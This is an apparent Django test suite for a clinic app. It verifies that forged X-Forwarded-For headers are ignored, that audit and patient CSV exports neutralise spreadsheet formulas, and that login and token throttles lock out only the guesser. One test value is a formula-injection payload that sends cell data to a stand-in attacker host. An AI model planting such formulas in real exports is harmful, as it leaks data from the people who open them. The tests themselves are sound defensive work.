"""The client's address cannot be forged, and throttles keyed on it lock out only the guesser
(issue 15, findings 3 and 4).

Behind our one TLS proxy (REMOTE_ADDR is the proxy, 10.0.0.1), the proxy appends the address it
saw to X-Forwarded-For; whatever the client wrote comes before it.
"""

from __future__ import annotations

import csv
import io

import pytest

from taperwell.api.services import api_token_create
from taperwell.audit.models import AuditAction, AuditEvent
from taperwell.audit.services import audit_record
from taperwell.core.csv_safety import safe_cell
from tests import factories

PROXY = "10.0.0.1"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _behind_one_proxy(settings):
    settings.PRODUCTION = True
    settings.TRUSTED_PROXY_COUNT = 1


def _via_proxy(client_address: str, forged: str = "") -> dict[str, str]:
    chain = f"{forged}, {client_address}" if forged else client_address
    return {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": chain}


def _failed_sign_ins(client):
    return AuditEvent.objects.filter(action=AuditAction.SIGN_IN_FAILED)


# --- finding 3 ------------------------------------------------------------------------------


def test_the_audit_records_the_address_our_proxy_saw_not_the_one_the_client_wrote(
    client, clinician, patient
):
    client.force_login(clinician)
    client.get(f"/clinic/patients/{patient.public_id}/", **_via_proxy("127.0.0.1", "8.8.8.8"))

    row = AuditEvent.objects.filter(patient=patient, action=AuditAction.VIEW).get()
    assert row.ip_address == "127.0.0.1"


def test_without_trusted_proxies_the_forwarded_header_is_ignored(
    client, settings, clinician, patient
):
    settings.TRUSTED_PROXY_COUNT = 0
    client.force_login(clinician)
    client.get(
        f"/clinic/patients/{patient.public_id}/",
        REMOTE_ADDR="198.51.100.20",
        HTTP_X_FORWARDED_FOR="8.8.8.8",
    )

    assert AuditEvent.objects.get(patient=patient).ip_address == "198.51.100.20"


def test_a_forwarded_value_that_is_not_an_address_is_never_recorded(client, clinician, patient):
    client.force_login(clinician)
    client.get(f"/clinic/patients/{patient.public_id}/", **_via_proxy(FORMULA))

    assert AuditEvent.objects.get(patient=patient).ip_address == PROXY


def test_the_audit_csv_shows_a_formula_as_text(client, clinic_admin, clinic):
    audit_record(request=None, action=AuditAction.VIEW, what=FORMULA, clinic=clinic)
    client.force_login(clinic_admin)

    body = b"".join(client.get("/clinic/audit/export.csv").streaming_content).decode()

    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_is_neutralised(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert safe_cell("plain words") == "plain words"
    assert safe_cell(-3) == -3  # numbers are data


def test_the_patients_own_export_neutralises_formulas(patient):
    from taperwell.goals.models import Goal
    from taperwell.reports.patient_export import CSV_FILES, _csv

    Goal.objects.create(patient=patient, title=FORMULA, why="+1 for my grandson")

    body = _csv(*CSV_FILES["goals.csv"], patient)

    assert f"'{FORMULA}" in body.replace('""', '"')
    assert "'+1 for my grandson" in body


@pytest.mark.django_db
def test_rotating_the_forwarded_header_does_not_get_around_the_enrolment_code_throttle(
    client, settings
):
    settings.TRUSTED_PROXY_COUNT = 0  # reached directly; the header means nothing
    for n in range(10):
        client.post(
            "/enrol/",
            {"code": "ZZZZ-ZZZZ"},
            REMOTE_ADDR="203.0.113.9",
            HTTP_X_FORWARDED_FOR=f"192.0.2.{n}",
        )

    page = client.post(
        "/enrol/",
        {"code": "ZZZZ-ZZZZ"},
        REMOTE_ADDR="203.0.113.9",
        HTTP_X_FORWARDED_FOR="192.0.2.99",
    )

    assert "Too many tries" in page.content.decode()


# --- finding 4 ------------------------------------------------------------------------------


def test_failed_sign_ins_from_one_address_do_not_lock_out_people_elsewhere(client, patient, clinic):
    clinician = factories.make_staff(clinic, "clinician", totp=False)
    for n in range(21):
        client.post(
            "/accounts/login/",
            {"login": f"nobody{n}@example.org", "password": "guess"},
            **_via_proxy("203.0.113.66"),
        )
    assert (
        "Too many"
        in client.post(
            "/accounts/login/",
            {"login": "nobody@example.org", "password": "guess"},
            **_via_proxy("203.0.113.66"),
        ).content.decode()
    )

    for person, address in ((patient.user, "198.51.100.7"), (clinician, "198.51.100.8")):
        other = client_for(address)
        response = other.post(
            "/accounts/login/", {"login": person.email, "password": factories.PASSWORD}
        )
        assert response.status_code == 302, person
        assert other.session["_auth_user_id"] == str(person.pk)


def test_guessing_one_persons_password_does_not_lock_that_person_out(patient):
    attacker = client_for("203.0.113.66")
    for _ in range(6):
        attacker.post("/accounts/login/", {"login": patient.user.email, "password": "guess"})

    maria = client_for("198.51.100.7")
    maria.post("/accounts/login/", {"login": patient.user.email, "password": factories.PASSWORD})

    assert maria.session["_auth_user_id"] == str(patient.user.pk)
    refused = attacker.post(
        "/accounts/login/", {"login": patient.user.email, "password": factories.PASSWORD}
    )
    assert "_auth_user_id" not in attacker.session  # the guesser stays locked out
    assert "Too many" in refused.content.decode()


def test_wrong_api_tokens_from_one_client_do_not_throttle_another(settings, patient):
    settings.API_TOKEN_FAILURE_LIMIT = 20
    good = api_token_create(user=patient.user, name="phone").raw
    attacker = client_for("203.0.113.66")
    for n in range(21):
        attacker.get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer tw_guess{n}")
    assert attacker.get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {good}").status_code == 429

    phone = client_for("198.51.100.7")
    assert phone.get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {good}").status_code == 200


def client_for(address: str):
    """A browser at `address`, reaching us through the proxy."""
    from django.test import Client

    return Client(**_via_proxy(address))
